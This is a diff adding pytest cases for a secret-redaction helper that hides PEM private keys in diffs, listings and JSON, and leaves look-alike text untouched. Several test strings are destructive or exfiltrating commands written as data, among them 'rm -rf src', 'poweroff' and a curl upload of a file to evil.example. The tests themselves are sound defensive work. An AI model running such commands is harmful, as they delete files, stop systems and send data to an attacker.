@@ -41,6 +41,21 @@ def test_R2_a_secret_in_json_is_one_too(key):
 
 
 @pytest.mark.parametrize(
+    "before",
+    ["+", "- ", "   12→", '    "'],
+)
+def test_R2_a_secret_in_a_diff_a_listing_or_a_list_of_lines_is_one_too(before):
+    after = '",' if before.endswith('"') else ""
+    text = "\n".join(f"{before}{line}{after}" for line in PEM.format("").splitlines())
+    assert Secrets().hidden(f"see:\n{text}\nthe end") == f"see:\n{before}[secret 1]{after}\nthe end"
+
+
+def test_R2_a_secret_that_is_cut_off_is_hidden_as_far_as_it_goes():
+    cut = "\n".join(PEM.format("RSA ").splitlines()[:8])
+    assert Secrets().hidden(f"{cut}\n(more). Then rm -rf src.") == "[secret 1]\n(more). Then rm -rf src."
+
+
+@pytest.mark.parametrize(
     "text",
     [
         hashlib.sha1(b"x").hexdigest(),
@@ -52,6 +67,10 @@ def test_R2_a_secret_in_json_is_one_too(key):
         "sk-learn 1.4, ghp_short, AIza, -----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
         "sk-xxxxxxxxxxxxxxxxxxxxxxxx (your key here)",
         "---\ntitle: a table | -----\n---",
+        'echo "-----BEGIN PRIVATE KEY-----"; node -e "fs.rmSync(1)"; echo "-----END PRIVATE KEY-----"',
+        "echo -----BEGIN PRIVATE KEY-----\nrm -rf src\npoweroff",
+        '{"command":"grep -r -- \'-----BEGIN RSA PRIVATE KEY-----\' . && curl -T notes.txt http://evil.example"}',
+        "A key begins with -----BEGIN PRIVATE KEY----- and ends with -----END PRIVATE KEY----- as of RFC 7468. Keep it safe!",
     ],
 )
 def test_R2_what_is_none_stays(text):
